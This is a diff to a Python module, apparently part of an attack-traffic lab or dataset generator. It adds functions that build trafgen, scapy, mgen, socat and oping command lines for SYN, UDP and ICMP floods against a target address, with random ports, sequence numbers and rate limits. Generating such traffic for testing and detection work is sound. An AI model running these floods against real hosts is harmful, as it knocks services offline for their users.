@@ -62,6 +62,21 @@ def _sendip(s: Strike, packet: str, *, rate: float) -> list[str]:
     return ["sh", "-c", f"for i in $(seq {s.count(rate)}); do {one}; sleep {pause:.4f}; done"]
 
 
+def _trafgen(s: Strike, packet: str, *, rate: float) -> list[str]:
+    """The queue of the interface is asked for: without it packets would pass by the delay of the wireless link."""
+    outer = f"eth(da={s.target.mac}, sa={s.attacker.mac}), ipv4(da={s.address}, sa={s.attacker.address}, ttl={s.attacker.ttl}, id=drnd())"
+    pace = ["--num", str(s.count(rate)), "--rate", f"{int(min(rate, MOST_PACKETS_PER_S))}pps"]
+    own_way = ["--cpus", "1", "--notouch-irq", "--no-sock-mem", "--qdisc-path", "--no-cpu-stats"]
+    return ["trafgen", "--dev", "eth0", *pace, *own_way, f"{{ {outer}, {packet} }}"]
+
+
+def _scapy(s: Strike, packet: str, *, rate: float) -> list[str]:
+    outer = f"Ether(src='{s.attacker.mac}', dst='{s.target.mac}') / IP(src='{s.attacker.address}', dst='{s.address}', ttl={s.attacker.ttl}, id=RandShort())"
+    pace = f"count={s.count(rate)}, inter={1 / min(rate, MOST_PACKETS_PER_S):.5f}"
+    orders = f"from scapy.all import *; sendp({outer} / {packet}, iface='eth0', verbose=0, {pace})"
+    return ["/usr/bin/python3", "-c", orders]
+
+
 @tool("flood.syn", package="hping3")
 def hping3_syn(
     s: Strike,
@@ -295,3 +310,53 @@ def iperf_udp(
         *pace,
         "--no-udp-fin",
     ]
+
+
+@tool("flood.syn", package="netsniff-ng")
+def trafgen_syn(s: Strike, *, port: int = 80, rate: float = 200.0, window: int = 29200) -> list[str]:
+    """trafgen's SYNs, from random ports with random numbers."""
+    packet = f"tcp(sp=drnd(1024, 65000), dp={port}, seq=drnd(), win={window}, syn)"
+    return _trafgen(s, packet, rate=rate)
+
+
+@tool("flood.icmp", package="netsniff-ng")
+def trafgen_icmp(s: Strike, *, rate: float = 200.0, size: int = 64) -> list[str]:
+    """trafgen's echo requests, each with its own identifier and with random data."""
+    return _trafgen(s, f"icmp4(type=8, id=drnd(), seq=dinc()), drnd({min(size, 1400)})", rate=rate)
+
+
+@tool("flood.syn", package="python3-scapy")
+def scapy_syn(s: Strike, *, port: int = 80, rate: float = 100.0) -> list[str]:
+    """scapy's SYNs, from random ports, with the options a real system sends."""
+    options = "options=[('MSS', 1460), ('SAckOK', b''), ('Timestamp', (RandInt(), 0)), ('NOP', None), ('WScale', 7)]"
+    packet = f"TCP(sport=RandShort(), dport={port}, seq=RandInt(), window=64240, flags='S', {options})"
+    return _scapy(s, packet, rate=rate)
+
+
+@tool("flood.udp", package="mgen")
+def mgen_udp(
+    s: Strike, *, port: int = 5000, rate: float = 200.0, size: int = 256, flows: int = 1
+) -> list[str]:
+    """mgen's datagrams, at random times, in `flows` conversations that begin one after another."""
+    count, each = s.count(rate) // flows, min(rate, MOST_PACKETS_PER_S) / flows
+    orders = [
+        f"{s.seconds * n / 2 / flows:.2f} ON {n + 1} UDP DST {s.address}/{port} POISSON [{each:g} {min(size, 1400)}] COUNT {count}"
+        for n in range(flows)
+    ]
+    return ["mgen", "ipv4", *(word for order in orders for word in ("event", order)), "output", "/dev/null"]
+
+
+@tool("flood.udp", package="socat")
+def socat_udp(s: Strike, *, port: int = 53, rate: float = 60.0, size: int = 64) -> list[str]:
+    """A process of socat for every datagram of random bytes, each from another port."""
+    one = f"head --bytes={min(size, 1400)} /dev/urandom | socat -u - UDP4:{s.address}:{port}"
+    pause = 1 / min(rate, MOST_PACKETS_PER_S)
+    return ["sh", "-c", f"for i in $(seq {s.count(rate)}); do {one}; sleep {pause:.4f}; done"]
+
+
+@tool("flood.icmp", package="oping")
+def oping_flood(s: Strike, *, rate: float = 100.0, burst: int = 20) -> list[str]:
+    """oping again and again, with `burst` echo requests each time."""
+    burst = max(1, min(burst, s.count(rate)))
+    one = f"oping -4 -c {burst} -i {1 / min(rate, MOST_PACKETS_PER_S):.4f} -w 0.5 {s.address} >/dev/null"
+    return ["sh", "-c", f"for i in $(seq {s.count(rate) // burst}); do {one}; done"]
